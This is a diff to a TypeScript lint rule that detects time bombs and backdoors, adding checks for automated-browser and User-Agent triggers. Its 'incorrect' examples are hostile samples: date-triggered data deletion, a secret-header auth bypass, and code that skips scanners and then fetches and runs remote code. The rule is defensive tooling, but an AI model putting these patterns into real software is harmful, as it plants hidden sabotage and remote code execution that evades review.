@@ -12,6 +12,8 @@ const TESTS_WHAT: Record<TriggerKind, string> = {
   ci: 'whether it runs in CI',
   random: 'a rare random draw',
   magic: 'an input against a hard-coded magic value',
+  automation: 'whether an automated browser (a test run, a scanner, review tooling) drives the page',
+  agent: 'the User-Agent header, which any client can set to anything, against a fixed value',
 };
 
 /** Guards that only matter when the branch has them and the other branch does not. */
@@ -22,6 +24,8 @@ const IDENTITY =
 const PERMISSION = /admin|\bis_?mod|moderator|owner|staff|role|perm|allowed|authori[sz]ed|privileg|superuser|\bcan[A-Z_]|\bhas[A-Z_]/i;
 const SELECTORS = new Set<TriggerKind>(['platform', 'ci']);
 const RISKY = new Set(['process', 'dynamic', 'network', 'fs-write', 'auth', 'wipe']);
+/** What a User-Agent match may not guard: a crawler getting a prerendered page over the network is ordinary. */
+const AGENT_GUARDS = new Set(['process', 'dynamic', 'fs-write', 'auth', 'wipe']);
 /** Names of functions whose replacement by another is a bypass: verifying, authenticating, checking. */
 const SECURITY_NAME = /verif|auth|valid|check|sign|permi|guard|sanitiz|escape|decrypt/i;
 
@@ -54,7 +58,7 @@ function severityOf(trigger: Trigger, guard: Guarded): Severity {
   if (SELECTORS.has(trigger.kind)) {
     return 'medium';
   }
-  if (trigger.kind === 'random' && guard.kind === 'network') {
+  if ((trigger.kind === 'random' || trigger.kind === 'automation') && guard.kind === 'network') {
     return 'medium';
   }
   return guard.severity;
@@ -66,21 +70,24 @@ export default defineTsRule({
     category: 'trigger',
     severity: 'high',
     summary:
-      'A condition on the date, the machine (host, user, OS, CI), a rare random draw or a magic input value that guards a process, code execution, network, file writes or an auth bypass.',
+      'A condition on the date, the machine (host, user, OS, CI), an automated browser (`navigator.webdriver`), a rare random draw, a magic input value or a fixed User-Agent that guards a process, code execution, network, file writes or an auth bypass.',
     why:
       'Time bombs and backdoors look like ordinary code in review: they only act on a certain date, on one machine, once in a ' +
-      'thousand runs, or when a request carries a secret value. Tests never reach that branch, so the reviewer is the last line.',
+      'thousand runs, never for automated browsers (the tests and scanners that would see them), or when a request carries a ' +
+      'secret value or a chosen User-Agent. Tests never reach that branch, so the reviewer is the last line.',
     incorrect: [
       "import { execSync } from 'child_process';\nif (Date.now() > 1767225600000) { execSync('rm -rf ./data') }",
       "import os from 'os'; import fs from 'fs';\nif (os.hostname() === 'build-01') fs.writeFileSync('/tmp/x', payload)",
       "app.use((req, res, next) => { if (req.headers['x-debug'] === 'letmein-8f3a9c') return next(); auth(req, res, next) })",
       'if (Math.random() < 0.001) { eval(code) }',
+      'export async function init() { if (navigator.webdriver) return; new Function(await (await fetch(SRC)).text())(); }',
     ],
     correct: [
       "let banner = 'old'; if (new Date().getFullYear() > 2024) banner = 'new'",
       "import { spawn } from 'child_process'; const shell = process.platform === 'win32' ? 'cmd' : 'sh'; spawn(shell, args)",
       "import { execSync } from 'child_process'; if (Date.now() - start > 5000) { execSync('kill ' + pid) }",
       "if (Math.random() < 0.5) { console.log('heads') }",
+      'if (window.Cypress) { window.__store__ = store; }',
     ],
     messages: {
       exempt:
@@ -115,11 +122,20 @@ export default defineTsRule({
 
     function judge(node: Node, test: Node, branches: (Node | null | undefined)[], after: Node[]): void {
       const trigger = triggerOf(ctx, test);
-      if (!trigger || (ctx.isTestFile && SELECTORS.has(trigger.kind))) {
+      if (!trigger || (ctx.isTestFile && (SELECTORS.has(trigger.kind) || trigger.kind === 'automation'))) {
         return;
       }
-      const authLike = trigger.kind === 'magic' || inAuthFunction(ctx, node);
+      const authLike = trigger.kind === 'magic' || trigger.kind === 'agent' || inAuthFunction(ctx, node);
       const present = branches.filter((b): b is Node => b !== null && b !== undefined);
+      if (trigger.kind === 'agent') {
+        // Only what the matching branch itself does: `if (ua.startsWith(PROBE)) return next()` lets that client past auth;
+        // `if (isBadBot(ua)) return deny(); next()` does not.
+        const guard = guardedCapability(ctx, present, true);
+        if (guard && AGENT_GUARDS.has(guard.kind)) {
+          report(trigger, guard);
+        }
+        return;
+      }
       if (SELECTORS.has(trigger.kind)) {
         // `win32 ? exec('cmd') : exec('sh')` picks a portable command; only a capability on one side counts.
         const sides = present.map((b) => guardedCapability(ctx, [b], false));
